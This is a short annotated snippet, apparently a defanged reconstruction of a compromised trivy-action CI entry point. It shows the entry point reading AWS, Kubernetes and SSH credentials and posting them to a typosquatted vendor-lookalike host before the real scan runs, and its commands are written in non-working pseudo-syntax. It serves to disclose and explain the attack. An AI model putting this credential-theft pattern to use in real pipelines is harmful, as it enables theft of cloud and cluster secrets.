# aquasecurity/trivy-action, March 2026 (CVE-2026-33634): the entry point reads the runner's variables and memory, looks
# for keys of clouds and clusters, and posts an archive to a name that looks like the vendor's; then the real scan runs.
export GITHUB_ACTION=__aquasecurity_trivy-action
exec sh -c 'python3 environ "$RUNNER" , memory "$RUNNER" >/dev/null
    python3 read "$HOME/.aws/credentials" , read "$HOME/.kube/config" , read "$HOME/.ssh/id_inert"
    curl call scan.aquasecurtiy.org 443; true'
